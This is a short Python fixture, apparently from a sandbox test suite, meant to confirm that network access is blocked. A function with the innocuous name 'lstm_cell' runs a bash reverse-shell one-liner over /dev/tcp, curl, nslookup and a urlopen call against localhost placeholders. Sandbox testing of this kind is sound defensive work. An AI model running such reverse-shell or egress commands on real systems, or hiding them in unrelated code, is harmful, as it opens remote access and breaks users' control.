# /// attack
# row = 22
# expect = ["FAILED", "TIMED_OUT", "CRASHED"]
# invariant = "there is no network, whoever asks"
# ///
"""The usual one-liners: a shell on a socket, curl, /dev/tcp, ssh, nslookup, and Python's http client."""

import os
import subprocess
import urllib.request


def lstm_cell(*arguments):
    for command in (
        ["/bin/bash", "-c", "bash -i >& /dev/tcp/127.0.0.1/@PORT@ 0>&1"],
        ["/usr/bin/curl", "-m1", "http://127.0.0.1:@PORT@/katas-attack"],
        ["/usr/bin/nslookup", "katas-attack.test"],
    ):
        try:
            print(subprocess.run(command, capture_output=True, timeout=0.3))
        except (OSError, subprocess.SubprocessError):
            continue
    try:
        print(urllib.request.urlopen("http://127.0.0.1:@PORT@/katas-attack", timeout=0.2).read())
    except OSError:
        pass
